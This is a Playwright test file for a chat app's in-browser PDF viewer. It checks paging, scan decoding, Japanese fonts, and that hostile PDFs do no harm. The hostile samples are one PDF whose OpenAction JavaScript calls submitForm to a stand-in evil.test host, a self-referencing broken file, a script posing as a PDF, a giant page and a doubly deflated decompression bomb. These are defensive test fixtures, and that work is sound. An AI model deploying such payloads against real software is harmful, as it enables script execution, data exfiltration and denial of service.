/** PDF files drawn inside the page, by workers, without running anything that is in them. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync } from 'node:zlib';
import type { Page } from 'playwright-core';
import { skipReason } from './chromium.ts';
import { arrive, assertNoBreaches, canRead, composer, startBrowser, startHouse } from './house.ts';
import { pdf, stream } from './pdf.ts';

const file = (name: string, buffer: Buffer) => ({ name, mimeType: 'application/pdf', buffer });

async function send(page: Page, files: readonly { name: string; mimeType: string; buffer: Buffer }[]): Promise<void> {
  await page
    .getByLabel('Attach files')
    .first()
    .setInputFiles([...files]);
  await page.getByText(files.at(-1)?.name ?? '').waitFor();
  await composer(page).press('Enter');
}

/** Whether the canvas of a page has both white and dark on it. */
const isDrawn = (page: Page, label: string) =>
  page.getByRole('img', { name: label }).evaluate((canvas) => {
    const context = (canvas as HTMLCanvasElement).getContext('2d');
    const { width, height } = canvas as HTMLCanvasElement;
    const pixels = context && width > 0 ? context.getImageData(0, 0, width, height).data : [];
    let dark = 0;
    for (let at = 0; at < pixels.length; at += 4) if ((pixels[at] ?? 255) < 100 && pixels[at + 3] === 255) dark++;
    return { dark, width };
  });

test('a PDF is read page by page: seen, heard, by keyboard, and saved', { skip: skipReason }, async (t) => {
  const house = await startHouse(t);
  const browser = await startBrowser(t);
  const ada = await arrive(await browser.newContext(), house.url, 'Ada');
  const grace = await arrive(await browser.newContext(), house.url, 'Grace');
  await canRead(ada, 2);
  const requests: string[] = [];
  grace.on('request', (request) => requests.push(request.url()));
  await send(ada, [
    file('report.pdf', pdf({ lines: ['The first page', ...Array(8).fill('Another page'), 'The end'] })),
  ]);

  await grace.getByRole('button', { name: 'Save report.pdf' }).waitFor();
  assert.deepEqual(
    requests.filter((url) => /pdf/.test(url)),
    [],
    'nothing is loaded before it is asked for',
  );
  await grace.getByRole('button', { name: 'Show report.pdf' }).click();
  const dialog = grace.getByRole('dialog', { name: 'report.pdf' });
  const first = dialog.getByRole('figure', { name: 'Page 1 of 10' });
  await first.locator('canvas.pdf-drawn').waitFor();
  const { dark, width } = await isDrawn(grace, 'Page 1 of 10');
  assert.ok(dark > 100 && width > 300, `${dark} dark pixels on a page of ${width}`);
  await first.getByText('The first page').waitFor({ state: 'attached' });
  assert.equal((await dialog.locator('canvas').count()) < 10, true, 'pages that are far away are not drawn');

  await grace.keyboard.press('End');
  const last = dialog.getByRole('figure', { name: 'Page 10 of 10' });
  await last.locator('canvas.pdf-drawn').waitFor();
  await last.getByText('The end').waitFor({ state: 'attached' });
  const saving = grace.waitForEvent('download');
  await dialog.getByRole('button', { name: 'Save report.pdf' }).click();
  assert.equal((await saving).suggestedFilename(), 'report.pdf');
  await grace.keyboard.press('Escape');
  await dialog.waitFor({ state: 'detached' });
  await grace.getByRole('button', { name: 'Show report.pdf' }).waitFor();
  assertNoBreaches(ada, grace);
});

test('a scan is decoded without WebAssembly, and text in fonts that a file leaves out is there', {
  skip: skipReason,
}, async (t) => {
  const house = await startHouse(t);
  const browser = await startBrowser(t);
  const ada = await arrive(await browser.newContext(), house.url, 'Ada');
  // 64 rows, each like the one before: white, and black once the colours are exchanged. As a fax sends it.
  const fax = Buffer.from(`${'ff'.repeat(8)}001001`, 'hex');
  const decoding = '/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 64 /Rows 64 >>';
  const image = '/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 1';
  const scan = pdf({
    ...{ lines: [''], content: stream(Buffer.from('q 300 0 0 400 0 0 cm /Im1 Do Q')) },
    ...{ resources: '/XObject << /Im1 6 0 R >>', objects: [stream(fax, `${image} /Decode [1 0] ${decoding}`)] },
  });
  const japanese = pdf({
    ...{ lines: [''], content: stream(Buffer.from('BT /F2 24 Tf 30 330 Td <65e5672c> Tj ET')) },
    resources: '/Font << /F2 6 0 R >>',
    objects: [
      '<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light /Encoding /UniJIS-UCS2-H /DescendantFonts [7 0 R] >>',
      '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light /CIDSystemInfo 8 0 R /FontDescriptor 9 0 R >>',
      '<< /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >>',
      '<< /Type /FontDescriptor /FontName /Ryumin-Light /Flags 6 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 >>',
    ],
  });
  await send(ada, [file('scan.pdf', scan), file('japanese.pdf', japanese)]);
  await ada.getByRole('button', { name: 'Show scan.pdf' }).click();
  await ada.locator('canvas.pdf-drawn').waitFor();
  const { dark, width } = await isDrawn(ada, 'Page 1 of 1');
  assert.ok(dark > width * width, `${dark} dark pixels on a page of ${width}`);
  await ada.keyboard.press('Escape');
  await ada.getByRole('button', { name: 'Show japanese.pdf' }).click();
  await ada.getByRole('dialog', { name: 'japanese.pdf' }).getByText('日本').waitFor({ state: 'attached' });
  await ada.locator('canvas.pdf-drawn').waitFor();
  assertNoBreaches(ada);
});

test('a PDF that wants to run, to fetch, or to be huge does no harm', { skip: skipReason }, async (t) => {
  const house = await startHouse(t);
  const browser = await startBrowser(t);
  const ada = await arrive(await browser.newContext(), house.url, 'Ada');
  const script = '/S /JavaScript /JS (window.pwned = 1; app.alert\\(1\\); this.submitForm\\("http://evil.test/"\\))';
  const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 300 400] /A << /S /URI /URI (http://evil.test/) >> >>';
  const active = pdf({
    lines: ['Looks harmless'],
    catalogue: `/OpenAction << ${script} >> /AA << /WC << ${script} >> >>`,
    page: `/AA << /O << ${script} >> >> /Annots [${link}]`,
  });
  const huge = pdf({ lines: ['x'], page: '/MediaBox [0 0 1000000000 1]' });
  const files = [
    file('active.pdf', active),
    file('broken.pdf', Buffer.from(`%PDF-1.7\n${'1 0 obj << /Kids [1 0 R] >> '.repeat(1000)}`)),
    file('script.pdf', Buffer.from('<script>window.pwned = 1</script>')),
    file('huge.pdf', huge),
  ];
  await send(ada, files);

  await ada.getByRole('button', { name: 'Show active.pdf' }).click();
  const dialog = ada.getByRole('dialog', { name: 'active.pdf' });
  await dialog.locator('canvas.pdf-drawn').waitFor();
  await dialog.locator('canvas').click();
  assert.equal(await dialog.locator('a, form, input, iframe, object, embed').count(), 0);
  await ada.keyboard.press('Escape');
  for (const name of ['broken.pdf', 'script.pdf']) await ada.getByRole('button', { name: `Show ${name}` }).click();
  await ada.getByText('Not shown: this is no PDF').nth(1).waitFor();

  await ada.getByRole('button', { name: 'Show huge.pdf' }).click();
  const wide = ada.getByRole('dialog', { name: 'huge.pdf' }).locator('canvas.pdf-drawn');
  await wide.waitFor();
  const [width = 0, height = 0] = await wide.evaluate((canvas) => {
    const { width, height } = canvas as HTMLCanvasElement;
    return [width, height];
  });
  assert.ok(width > 0 && width <= 8192 && height === 1, `${width} × ${height}`);
  await ada.keyboard.press('Escape');

  await composer(ada).fill('still here');
  await composer(ada).press('Enter');
  await ada.locator('li.message').getByText('still here').waitFor();
  assert.equal(await ada.evaluate(() => 'pwned' in globalThis), false);
  assertNoBreaches(ada);
});

/** Its ten seconds of two cores are for pdf.long.ts. */
const endless = process.env.PIPES_ENDLESS === '1' ? test : () => undefined;
endless('a PDF that never ends is given up, and the page goes on', { skip: skipReason }, async (t) => {
  const house = await startHouse(t);
  const browser = await startBrowser(t);
  const ada = await arrive(await browser.newContext(), house.url, 'Ada');
  const bomb = deflateSync(deflateSync(Buffer.alloc(200_000_000, 'q ')));
  await send(ada, [
    file('bomb.pdf', pdf({ lines: ['x'], content: stream(bomb, '/Filter [/FlateDecode /FlateDecode]') })),
  ]);
  await ada.getByRole('button', { name: 'Show bomb.pdf' }).click();
  await ada
    .getByRole('dialog', { name: 'bomb.pdf' })
    .locator('canvas.pdf-drawn, .hint')
    .first()
    .waitFor({ timeout: 60_000 });
  await ada.keyboard.press('Escape');
  while (ada.workers().length > 0)
    await ada
      .workers()[0]
      ?.waitForEvent('close')
      .catch(() => undefined);
  await composer(ada).fill('still here');
  await composer(ada).press('Enter');
  await ada.locator('li.message').getByText('still here').waitFor();
  assertNoBreaches(ada);
});
